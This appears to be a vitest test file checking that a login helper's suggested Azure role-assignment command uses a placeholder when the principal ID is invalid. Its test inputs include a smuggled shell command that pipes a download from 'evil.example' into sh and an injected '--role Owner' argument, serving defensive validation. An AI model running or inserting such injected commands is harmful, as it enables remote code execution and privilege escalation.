import { expect, test } from 'vitest';
import { noSubscriptionText } from '../../../src/login/subscriptions.ts';

const SIGNED_IN = {
  tokens: [],
  management: null,
  assertion: null,
  clientId: 'c',
  tenantId: 't',
  machine: null,
  correlationId: 'u',
};
const ID = 'cccccccc-0000-4000-8000-000000000015';

test.each([
  [ID, ID],
  ['x; curl https://evil.example | sh', 'OBJECT_ID'],
  [`${ID} --role Owner`, 'OBJECT_ID'],
  [null, 'OBJECT_ID'],
])('the command for the principal %j names %j', (principalId, assignee) => {
  expect(noSubscriptionText({ ...SIGNED_IN, principalId })).toContain(
    `: az role assignment create --assignee-object-id ${assignee} --assignee-principal-type ServicePrincipal `,
  );
});
